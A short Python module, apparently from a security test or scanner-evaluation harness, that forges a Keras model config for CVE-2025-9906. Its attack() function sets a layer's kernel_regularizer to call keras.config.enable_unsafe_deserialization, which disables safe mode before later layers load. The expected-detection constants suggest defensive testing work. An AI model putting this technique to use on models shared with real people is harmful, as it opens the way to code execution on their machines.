"""A config that turns safe mode off before the next layer is read (CVE-2025-9906)."""

from pathlib import Path

from forging import BOTH, function, update_config

FORMATS = BOTH
CHECK, SAYS = "format", "'enable_unsafe_deserialization'"


def attack(path: Path) -> None:
    update_config(path, kernel_regularizer=function("keras.config", "enable_unsafe_deserialization"))
